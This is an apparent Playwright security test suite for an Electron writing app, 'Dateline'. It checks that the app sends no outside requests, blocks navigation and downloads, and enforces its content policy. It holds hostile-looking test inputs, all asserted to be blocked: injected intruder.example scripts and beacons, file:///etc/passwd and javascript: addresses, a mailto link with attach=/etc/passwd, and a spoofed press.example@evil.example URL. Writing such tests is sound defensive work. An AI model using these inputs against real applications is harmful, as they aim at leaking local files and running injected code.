import { join } from "node:path";
import { z } from "zod";
import { expect, test } from "./fixtures.ts";
import { answerFileDialogs, chooseMenuItem } from "./native.ts";
import { runInPage } from "./in-page.ts";
import { noteRequests, recordNetwork } from "./network.ts";
import { pasteHtml } from "./paste.ts";

const isLocal = (address: string): boolean => /^(?:app|data|blob|devtools):/u.test(address);

// What is asked at the first start counts too.
test.use({ isNew: true });

test("a day's work asks nothing of the network", async ({ dateline, folder }) => {
  const { application, desk, editor, palette, preview, window } = dateline;
  const asked = await noteRequests(application);
  const network = await recordNetwork(application, join(folder, "network.json"));
  await desk.startArticle();
  await editor.headline.fill("Quiet as a library");
  await editor.type("Not a word leaves this machine. ");
  await pasteHtml(
    window,
    `<p>Pasted <a href="https://tracker.example/a?b=1">words</a> <img src="https://tracker.example/p.gif">
     <span style="background: url(https://tracker.example/b.gif)">and</span>
     <link rel="preconnect" href="https://tracker.example/"><iframe src="https://tracker.example/f"></iframe></p>`,
  );
  await expect(editor.body).toContainText("Pasted words");
  await editor.saved();
  await expect(preview.page.getByRole("heading", { level: 1 })).toContainText("Quiet as a library");
  await preview.page.getByRole("link", { name: "words" }).hover();
  await desk.search.fill("library");
  await expect(desk.row("Quiet as a library")).toBeVisible();
  await palette.run("Settings");
  await window.keyboard.press("Escape");
  await answerFileDialogs(application, [join(folder, "exported")]);
  await chooseMenuItem(application, "Export as HTML…");
  await window.reload();
  await expect(desk.row("Quiet as a library")).toBeVisible();
  const record = await network();
  const addresses = await asked();
  expect({ requests: addresses.length > 0, outside: addresses.filter((address) => !isLocal(address)) }).toEqual({
    requests: true,
    outside: [],
  });
  expect(record.outside).toEqual([]);
});

const ELSEWHERE = [
  "https://example.org/",
  "http://127.0.0.1:9/",
  "file:///etc/passwd",
  "data:text/html,<h1>other</h1>",
  "javascript:document.title = 'ran'",
  "app://other/index.html",
  "app://dateline/preview/x/page.html",
  "app://dateline/index.html?a=1",
  "about:srcdoc",
  "about:blank",
];

const appended = (name: string, values: Record<string, string>, then = ""): string =>
  `(() => { const made = Object.assign(document.createElement("${name}"), ${JSON.stringify(values)}); document.body.append(made); ${then}; })()`;

test("the window goes nowhere and comes back to its page, opens nothing and keeps no download", async ({
  dateline,
}) => {
  const { application, desk, window } = dateline;
  await expect(desk.rows).toHaveCount(3);
  const asked = await noteRequests(application);
  await application.evaluate(({ session }) => {
    const kept: string[] = [];
    Object.assign(globalThis, { kept });
    session.defaultSession.on("will-download", (_event, item) => {
      item.once("done", (_done, state) => kept.push(state));
    });
  });
  const outcome = await runInPage(application, {
    form: appended("form", { action: "https://example.org/" }, "made.submit()"),
    frame: appended("iframe", { src: "https://example.org/" }),
    frameOfOurs: appended("iframe", { src: "app://dateline/" }),
    webview: appended("webview", { src: "https://example.org/" }),
    download: appended("a", { href: "data:text/plain,x", download: "x.txt" }, "made.click()"),
    blank: appended("a", { href: "https://example.org/", target: "_blank" }, "made.click()"),
    blob: `(() => { const made = document.createElement("a"); made.href = URL.createObjectURL(new Blob(["x"])); made.download = "x.exe"; made.click(); })()`,
    opened: "globalThis.open('https://example.org/') === null && globalThis.open('about:blank') === null",
    ...Object.fromEntries(ELSEWHERE.map((address) => [address, `void (location.href = ${JSON.stringify(address)})`])),
  });
  await expect(desk.rows).toHaveCount(3);
  const left = await application.evaluate(({ BrowserWindow }) => ({
    windows: BrowserWindow.getAllWindows().map(({ webContents }) => webContents.getURL()),
    kept: Reflect.get(globalThis, "kept"),
  }));
  expect({ opened: outcome["opened"], ...left, title: await window.title() }).toEqual({
    opened: true,
    windows: ["app://dateline/"],
    kept: ["cancelled", "cancelled"],
    title: "Dateline",
  });
  expect((await asked()).filter((address) => !isLocal(address))).toEqual([]);
});

test("the window has no Node, the bridge and no more, and is granted nothing", async ({
  dateline: { application },
}) => {
  const outcome = await runInPage(application, {
    require: "typeof require",
    process: "typeof process",
    bridge: "Object.keys(dateline).sort().join()",
    globals:
      "['ipcRenderer', 'electron', 'module', 'Buffer', 'global', '__dirname'].filter((name) => name in globalThis).join()",
    notifications: "Notification.requestPermission()",
    place:
      "new Promise((settle) => navigator.geolocation.getCurrentPosition(() => settle('granted'), () => settle('denied')))",
    microphone: "navigator.mediaDevices.getUserMedia({ audio: true })",
    screen: "navigator.mediaDevices.getDisplayMedia({ video: true })",
    midi: "navigator.requestMIDIAccess({ sysex: true })",
    hid: "navigator.hid.requestDevice({ filters: [] }).then(({ length }) => length)",
    usb: "navigator.usb.requestDevice({ filters: [] })",
    serial: "navigator.serial.requestPort()",
    bluetooth: "navigator.bluetooth.requestDevice({ acceptAllDevices: true })",
    clipboard: "navigator.clipboard.readText()",
    persistence: "navigator.storage.persist()",
  });
  expect(outcome).toEqual({
    require: "undefined",
    process: "undefined",
    bridge: "flushed,listen,request",
    globals: "",
    notifications: "denied",
    place: "denied",
    microphone: expect.stringMatching(/Error$/),
    screen: expect.stringMatching(/Error$/),
    midi: expect.stringMatching(/Error$/),
    hid: 0,
    usb: "NotFoundError",
    serial: "NotFoundError",
    bluetooth: expect.stringMatching(/Error$/),
    clipboard: "NotAllowedError",
    persistence: false,
  });
});

test("the policy refuses every script and every address that is not Dateline's", async ({
  dateline: { window, application },
}) => {
  const asked = await noteRequests(application);
  const found = await window.evaluate(async () => {
    const refused = new Set<string>();
    document.addEventListener("securitypolicyviolation", (event) =>
      refused.add(`${event.effectiveDirective} ${event.blockedURI}`),
    );
    const run = (effect: string): string => `globalThis.intruder = ${JSON.stringify(effect)}`;
    const add = (name: string, values: Record<string, string>): void => {
      document.body.append(Object.assign(document.createElement(name), values));
    };
    add("script", { textContent: run("inline") });
    add("script", { src: "https://intruder.example/a.js" });
    add("script", { src: "data:text/javascript,globalThis.intruder='data'" });
    add("script", { src: URL.createObjectURL(new Blob([run("blob")], { type: "text/javascript" })) });
    add("img", { src: "https://intruder.example/a.png" });
    add("object", { data: "https://intruder.example/a" });
    add("embed", { src: "https://intruder.example/a" });
    add("base", { href: "https://intruder.example/" });
    add("video", { src: "https://intruder.example/a.mp4" });
    add("link", { rel: "stylesheet", href: "https://intruder.example/a.css" });
    const handler = document.createElement("div");
    handler.setAttribute("onclick", run("handler"));
    document.body.append(handler);
    handler.click();
    const failures: string[] = [];
    const attempt = async (name: string, work: () => unknown): Promise<void> => {
      try {
        await work();
      } catch {
        failures.push(name);
      }
    };
    // Later, since what the test itself evaluates is exempt from the policy.
    await new Promise((settle) => setTimeout(settle));
    await attempt("eval", () => Reflect.construct(Function, [run("eval")])());
    await attempt("fetch", () => fetch("https://intruder.example/"));
    await attempt("import", () => import(/* @vite-ignore */ `https://intruder.example/${Date.now()}.js`));
    await attempt(
      "socket",
      () =>
        new Promise((settle, refuse) => {
          const socket = new WebSocket("wss://intruder.example/");
          socket.addEventListener("open", settle);
          socket.addEventListener("error", refuse);
        }),
    );
    await attempt(
      "worker",
      () =>
        new Promise((settle, refuse) => {
          const worker = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"])));
          worker.addEventListener("message", settle);
          worker.addEventListener("error", refuse);
        }),
    );
    navigator.sendBeacon("https://intruder.example/");
    await new Promise((settle) => setTimeout(settle, 200));
    return {
      intruder: Reflect.get(globalThis, "intruder") ?? null,
      failures,
      refused: [...refused].map((each) => each.split(" ")[0]),
      base: document.baseURI,
    };
  });
  expect(found).toMatchObject({
    intruder: null,
    failures: ["eval", "fetch", "import", "socket", "worker"],
    base: "app://dateline/",
  });
  expect(new Set(found.refused)).toEqual(
    new Set([
      "script-src-elem",
      "script-src-attr",
      "script-src",
      "img-src",
      "object-src",
      "base-uri",
      "media-src",
      "style-src-elem",
      "connect-src",
      "worker-src",
    ]),
  );
  expect((await asked()).filter((address) => !isLocal(address))).toEqual([]);
});

test("an address is handed on only after the reporter has seen whom it leads to", async ({
  dateline: { application, window },
}) => {
  await application.evaluate(({ dialog, shell }) => {
    const shown: string[] = [];
    const opened: string[] = [];
    Object.assign(globalThis, { shown, opened });
    Object.assign(shell, { openExternal: (address: string) => Promise.resolve(void opened.push(address)) });
    // The first question is declined, every other agreed to.
    Object.assign(dialog, {
      showMessageBox: (_window: unknown, { message, detail }: { message: string; detail: string }) =>
        Promise.resolve({ response: shown.push(`${message} ${detail}`) === 1 ? 1 : 0 }),
    });
  });
  const addresses = [
    "https://declined.example/",
    "https://press.example/a?b=c",
    "mailto:desk@press.example?attach=/etc/passwd&subject=Hello",
    "http://plain.example/",
    "https://press.example@evil.example/",
    "javascript:alert(1)",
    "file:///etc/passwd",
    "smb://press.example/share",
    "app://dateline/",
  ];
  const answers = await window.evaluate(async (list) => {
    const { request } = Reflect.get(globalThis, "dateline");
    const codes: string[] = [];
    for (const address of list) {
      const answer = await request("links.open", { address });
      codes.push(answer.ok ? "ok" : answer.error.code);
    }
    return codes;
  }, addresses);
  const Seen = z.object({ shown: z.array(z.string()), opened: z.array(z.string()) });
  const seen = await application.evaluate(() => ({
    shown: Reflect.get(globalThis, "shown"),
    opened: Reflect.get(globalThis, "opened"),
  }));
  expect({ answers, ...Seen.parse(seen) }).toEqual({
    answers: ["ok", "ok", "ok", ...Array.from({ length: 6 }, () => "forbidden")],
    shown: [
      "Open declined.example in your browser? https://declined.example/",
      "Open press.example in your browser? https://press.example/a?b=c",
      "Write to desk@press.example? mailto:desk@press.example?subject=Hello",
    ],
    opened: ["https://press.example/a?b=c", "mailto:desk@press.example?subject=Hello"],
  });
});
